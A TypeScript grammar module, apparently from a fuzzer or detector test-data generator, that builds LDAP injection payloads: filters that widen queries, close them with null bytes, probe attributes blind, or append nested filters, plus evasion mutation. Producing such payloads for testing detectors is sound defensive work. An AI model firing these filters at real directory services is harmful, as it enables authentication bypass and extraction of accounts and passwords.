/** LDAP: filters that an attacker widens, closes or asks one bit at a time (RFC 4515 syntax). */

import type { Family } from '../../family.ts';
import {
  characters,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { personName, token } from '../lexicon.ts';
import { familyOf } from '../places.ts';
import { anywhere } from '../surroundings.ts';

const attribute: Rule = oneOf(
  'uid',
  'cn',
  'sn',
  'mail',
  'userPassword',
  'password',
  'pass',
  'objectClass',
  'objectclass',
  'memberOf',
  'givenName',
  'department',
  'sAMAccountName',
  'userPrincipalName',
  'description',
  'homeDirectory',
  'ou',
  'telephoneNumber',
  'employeeNumber',
  'title',
  'manager',
  'user',
  'username',
  'role',
  'group',
  'loginShell',
);

const value: Rule = weighted(
  [4, '*'],
  [2, personName],
  [1, text`${characters(LOWER_CASE, 1, 3)}*`],
  [1, oneOf('person', 'inetOrgPerson', 'posixAccount', 'computer', 'void', 'users', 'top', 'group')],
  [1, text`*${characters(LOWER_CASE, 2, 5)}*`],
);

const assertion: Rule = text`${attribute}${weighted([8, '='], [1, '>='], [1, '<='], [1, '~='])}${value}`;
const beginning: Rule = oneOf('*', '*', '', personName, text`${personName}*`, 'x', token, '*)');
const nullByte: Rule = oneOf('%00', '\\00', '%2500', '\\x00');

const wideningFilter: Rule = oneOf(
  text`${beginning})(${assertion}))(|(${assertion}`,
  text`${beginning})(${assertion})`,
  text`${beginning})(|(${assertion}))`,
  text`${beginning})(|(${assertion})(${assertion}))`,
  text`${beginning})((|(${assertion})`,
  text`${beginning}))(|(${assertion})(${assertion})`,
  text`${beginning})(|(${attribute}=*`,
  text`${beginning})(!(${assertion}))`,
  text`*(|(${assertion}))`,
  text`${personName}*)((|${attribute}=*)`,
  text`${beginning})(${attribute}=*))(&(${attribute}=${personName}`,
);

const closedFilter: Rule = oneOf(
  text`${personName})(&)`,
  text`${personName})(&))${nullByte}`,
  text`${personName})(|(&)`,
  text`${personName}))${nullByte}${maybe('(', 0.3)}`,
  text`${personName})(!(&(1=0${maybe('))', 0.5)}`,
  text`${personName})(${attribute}=*))${nullByte}`,
  text`*)(&`,
  text`*))(|(${attribute}=*`,
  text`*))${oneOf('%00', '\\00')}`,
  text`)(${attribute}=))${oneOf('%00', '\\00', '\\x00')}`,
  text`*()|&'`,
  text`*()|%26'`,
  text`*)(${attribute}=*))%00`,
  text`(|(${attribute}=*${maybe(')', 0.5)}`,
  text`${personName})(|(${attribute}=\\2a))`,
);

const blindFilter: Rule = oneOf(
  text`${personName})(${attribute}=${characters(LOWER_CASE, 1, 4)}*`,
  text`*)(${attribute}>=${characters(LOWER_CASE, 1, 2)}`,
  text`${personName})(${attribute}:2.5.13.18:=${repeat(text`\\${characters(HEX_DIGITS, 2)}`, 1, 5)})`,
  text`${personName})(${attribute}:caseExactMatch:=${characters(LOWER_CASE, 1, 6)}*)`,
  text`*)(${attribute}=*${characters(LOWER_CASE, 1, 3)}*))(|(${attribute}=${characters(LOWER_CASE, 2, 5)}`,
  text`${personName})(userAccountControl:1.2.840.113556.1.4.803:=${integer(1, 8192)})(${attribute}=*`,
  text`(&(${attribute}=${personName})(${attribute}=${characters(LOWER_CASE, 1, 3)}*)`,
);

const nestedFilter: Rule = (random) => filterOfDepth(random() < 0.6 ? 2 : 3)(random);

function filterOfDepth(depth: number): Rule {
  if (depth === 0) return text`(${assertion})`;
  const inner = (random: () => number): string => filterOfDepth(random() < 0.6 ? 0 : depth - 1)(random);
  return weighted(
    [5, text`(&${repeat(inner, 2, 3)})`],
    [4, text`(|${repeat(inner, 2, 3)})`],
    [1, text`(!${inner})`],
    [1, text`(& ${repeat(inner, 2, 3, ' ')})`],
  );
}

/** A whole filter behind the end of the one that the program wrote. */
const appendedFilter: Rule = oneOf(
  text`${beginning})${nestedFilter}`,
  text`${nestedFilter}${oneOf('%00', '\\00', '(&)', ')(|', ')(&')}`,
  text`(&(${attribute}=${personName})(|(${attribute}=*))${nestedFilter})`,
  text`${personName})(|${nestedFilter}`,
);

const directoryUrl: Rule = text`${oneOf('ldap', 'ldaps')}://${oneOf('localhost', 'ad', 'dc01')}:${oneOf('389', '636', '3268')}/${oneOf('o', 'dc', 'ou')}=${characters(LOWER_CASE, 3, 8)}??sub?${oneOf(wideningFilter, nestedFilter)}`;

/** LDAP injection. */
export const LDAP_FAMILIES: readonly Family[] = [
  familyOf('query-injection', 'ldap-widening', anywhere(wideningFilter), undefined, 1.5),
  familyOf('query-injection', 'ldap-closing', anywhere(closedFilter)),
  familyOf('query-injection', 'ldap-blind', anywhere(blindFilter)),
  familyOf('query-injection', 'ldap-filter', evade(weighted([5, appendedFilter], [1, directoryUrl]))),
];
